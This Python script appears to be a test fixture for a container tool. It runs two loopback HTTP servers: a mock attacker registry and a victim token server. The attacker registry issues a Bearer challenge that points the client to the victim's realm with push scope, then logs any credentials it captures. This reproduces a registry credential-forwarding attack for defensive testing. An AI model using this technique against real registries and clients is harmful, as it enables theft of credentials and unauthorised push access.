#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Two plain-http listeners on loopback for the review's attacks on kima's
docker:// source (tests/integration/test-image-attacks.sh, run with
--insecure so that no TLS is needed; the attacks do not depend on it).

EVIL (the registry the user points kimactl at, attacker-run):
  every /v2/ request without an Authorization header gets 401 with a Bearer
  challenge whose realm is VICTIM's token endpoint (on another host name,
  "localhost" where the registry is "127.0.0.1", or --realm-same-host:
  127.0.0.1 on VICTIM's port) and whose scope asks for push rights on a
  repository of the victim's. A request with an Authorization header is
  logged (--log FILE, one header a line) and answered 404.
VICTIM (a registry's token server the user has credentials for in the auth
  file): /token with Basic alice:secret answers {"token": "VICTIM-TOKEN-..."}
  (and logs "issued SCOPE"); without them, 401.

--info FILE gets {"evil_port", "victim_port"} once both listen. Exits after
--timeout seconds (default 120).
"""
import argparse
import base64
import json
import os
import sys
import threading
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

ARGS = None
LOCK = threading.Lock()
PORTS = {}


def log(line):
    with LOCK, open(ARGS.log, "a") as f:
        f.write(line + "\n")


class Evil(BaseHTTPRequestHandler):
    def log_message(self, fmt, *args):
        pass

    def do_GET(self):
        authz = self.headers.get("Authorization")
        if authz:
            log("evil got: " + authz)
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        host = "127.0.0.1" if ARGS.realm_same_host else "localhost"
        realm = "http://%s:%d/token" % (host, PORTS["victim"])
        self.send_response(401)
        self.send_header(
            "WWW-Authenticate",
            'Bearer realm="%s",service="victim",scope="repository:victim/private:pull,push"'
            % realm,
        )
        self.send_header("Content-Length", "0")
        self.end_headers()


class Victim(BaseHTTPRequestHandler):
    def log_message(self, fmt, *args):
        pass

    def do_GET(self):
        want = "Basic " + base64.b64encode(b"alice:secret").decode()
        q = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)
        if self.headers.get("Authorization") != want:
            log("victim refused: " + str(self.headers.get("Authorization")))
            self.send_response(401)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        scope = ",".join(q.get("scope", []))
        log("victim issued for " + scope)
        body = json.dumps({"token": "VICTIM-TOKEN-alice"}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def main():
    global ARGS
    p = argparse.ArgumentParser()
    p.add_argument("--info", required=True)
    p.add_argument("--log", required=True)
    p.add_argument("--realm-same-host", action="store_true")
    p.add_argument("--timeout", type=float, default=120)
    ARGS = p.parse_args()
    evil = ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    victim = ThreadingHTTPServer(("127.0.0.1", 0), Victim)
    PORTS["evil"] = evil.server_address[1]
    PORTS["victim"] = victim.server_address[1]
    for srv in (evil, victim):
        threading.Thread(target=srv.serve_forever, daemon=True).start()
    tmp = ARGS.info + ".tmp"
    with open(tmp, "w") as f:
        json.dump({"evil_port": PORTS["evil"], "victim_port": PORTS["victim"]}, f)
    os.rename(tmp, ARGS.info)
    threading.Event().wait(ARGS.timeout)
    sys.exit(0)


if __name__ == "__main__":
    main()
